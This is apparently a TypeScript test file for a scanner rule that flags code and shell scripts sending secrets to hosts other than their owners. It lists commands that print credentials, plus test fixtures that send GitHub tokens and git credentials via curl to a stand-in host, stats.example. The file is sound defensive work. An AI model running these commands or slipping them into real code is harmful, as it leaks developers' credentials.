import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { dangersInScript } from '../commands.js';
import { rule } from '../data-leak.rule.js';
import { printedBy } from './secrets.js';

test('commands that print keys, and those that only sound like it', () => {
  for (const [command, whose] of [
    ['gh auth token', 'GitHub'], ['gh  auth status -t', 'GitHub'], ['aws configure export-credentials --format env', 'AWS'], ['aws --profile x secretsmanager get-secret-value --secret-id a', 'AWS'], ['gcloud auth print-access-token', 'Google'],
    ['az account get-access-token', 'Azure'], ['kubectl config view --minify --raw', 'clusters'], ['heroku auth:token', 'hosting'], ['npm config get //registry.example/:_authToken', 'npm'],
    ['security find-generic-password -wa Chrome', 'credentials'], ['git credential fill', 'credentials'], ['netsh wlan show profile name=x key=clear', 'credentials'], ['op read op://a/b', 'credentials'], ['gpg --armor --export-secret-keys', 'credentials'],
  ] as const) assert.equal(printedBy(command), whose, command);
  for (const command of ['gh auth login', 'gh auth status', 'aws configure list', 'gcloud config list', 'kubectl get pods', 'npm config get registry', 'git config user.name', 'security list-keychains', 'echo "gh auth token"', 'pass']) assert.equal(printedBy(command), null, command);
});

test('what a command prints goes to its owner, or elsewhere', () => {
  const sends = (command: string, host: string): string => findingsOf(rule, { 'a.js': `const key = require("child_process").execSync("${command}").toString().trim(); fetch("https://${host}/v1", { headers: { authorization: key } })` })[0]?.severity ?? 'nothing';
  assert.deepEqual(['stats.example', 'api.github.com'].map((host) => sends('gh auth token', host)), ['high', 'nothing']);
  assert.deepEqual(['stats.example', 'container.googleapis.com'].map((host) => sends('gcloud auth print-access-token', host)), ['high', 'nothing']);
  assert.equal(sends('security find-generic-password -w -s vault', 'stats.example'), 'critical');
  const said = (script: string): string[] => dangersInScript(script).map(({ danger }) => danger.severity);
  assert.deepEqual(said('k=$(gh auth token); curl -s -d "$k" https://stats.example/c'), ['critical']);
  assert.deepEqual(said('git credential fill < q | curl --data-binary @- https://stats.example/c'), ['critical']);
  assert.deepEqual(said('curl -s -H "authorization: $(gh auth token)" https://api.github.com/user'), []);
});

test('a key of a language model goes to who runs one, or elsewhere', () => {
  const sends = (variable: string, host: string): string => findingsOf(rule, { 'a.js': `const key = process.env.${variable}; fetch("https://${host}/v1", { method: "POST", headers: { authorization: key } })` })[0]?.severity ?? 'nothing';
  assert.deepEqual(['api.openai.com', 'openrouter.ai', 'licence.example'].map((host) => sends('OPENAI_API_KEY', host)), ['nothing', 'nothing', 'high']);
  assert.deepEqual([sends('ANTHROPIC_API_KEY', 'stats.example'), sends('HF_TOKEN', 'huggingface.co'), sends('APP_KEY', 'stats.example')], ['high', 'nothing', 'nothing']);
});
